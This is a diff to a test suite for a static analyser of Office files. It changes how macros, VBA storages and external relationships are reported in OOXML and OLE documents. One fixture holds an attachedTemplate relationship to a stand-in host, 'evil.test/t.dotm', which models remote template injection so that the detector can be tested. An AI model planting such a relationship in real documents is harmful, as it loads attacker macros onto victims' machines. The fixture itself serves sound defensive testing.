@@ -92,19 +92,20 @@ describe('Office', () => {
     'word/_rels/settings.xml.rels': '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/><Relationship Id="rId2" Target="styles.xml"/></Relationships>'
   }
 
-  it('OOXML: vbaProject.bin means macros; external relationships are listed', async () => {
+  it('OOXML: a vbaProject.bin is listed (one that is not a compound file says so); external relationships are listed', async () => {
     const docx = join(tmp, 'a.docx')
     const docm = join(tmp, 'a.docm')
     await zip(docx, base)
     await zip(docm, { ...base, 'word/vbaProject.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') })
     const x = (await staticAnalysis(docx, null)).static.office as OfficeFacts
     const m = (await staticAnalysis(docm, null)).static.office as OfficeFacts
-    expect(x).toEqual({ format: 'ooxml', macros: false, vba: [], external_targets: ['http://evil.test/t.dotm'] })
-    expect(m.macros).toBe(true)
+    expect(x).toEqual({ format: 'ooxml', macros: [], vba: [], external_targets: ['http://evil.test/t.dotm'] })
+    expect(m.macros).toEqual([])
     expect(m.vba).toEqual(['word/vbaProject.bin'])
+    expect(m.error).toMatch(/^word\/vbaProject\.bin: ./)
   })
 
-  it('OLE: a VBA storage means macros; a plain compound file has none', async () => {
+  it('OLE: a VBA storage is listed; a plain compound file has none', async () => {
     const withVba = join(tmp, 'm.doc')
     const plain = join(tmp, 'p.doc')
     writeFileSync(withVba, ole(['Root Entry', 'WordDocument', 'Macros', 'VBA', '_VBA_PROJECT']))
@@ -113,9 +114,9 @@ describe('Office', () => {
     expect(execFileSync('file', ['-b', withVba]).toString()).toMatch(/^CDFV2 Microsoft Word/)
     const a = (await staticAnalysis(withVba, null)).static.office as OfficeFacts
     const b = (await staticAnalysis(plain, null)).static.office as OfficeFacts
-    expect(a).toMatchObject({ format: 'ole', macros: true })
+    expect(a).toMatchObject({ format: 'ole', macros: [] }) // no dir stream here: vba.test.ts reads real projects
     expect(a.vba.sort()).toEqual(['Macros', 'VBA', '_VBA_PROJECT'])
-    expect(b).toMatchObject({ format: 'ole', macros: false, vba: [] })
+    expect(b).toMatchObject({ format: 'ole', macros: [], vba: [] })
     expect(a.error).toBeUndefined()
   })
 
@@ -128,11 +129,11 @@ describe('Office', () => {
       for (let k = 0; k < 1 + rand(16); k++) b[rand(b.length)] = rand(256)
       const facts = analyzeOle(b)
       expect(facts.format).toBe('ole')
-      expect(typeof facts.macros).toBe('boolean')
+      expect(Array.isArray(facts.macros)).toBe(true)
     }
     const broken = Buffer.from(base)
     broken.writeUInt32LE(0x12345678, 48) // the directory's first sector, far past the end
-    expect(analyzeOle(broken)).toMatchObject({ format: 'ole', macros: true, vba: ['_VBA_PROJECT'], error: expect.any(String) })
+    expect(analyzeOle(broken)).toMatchObject({ format: 'ole', macros: [], vba: ['_VBA_PROJECT'], error: expect.any(String) })
   })
 })
 
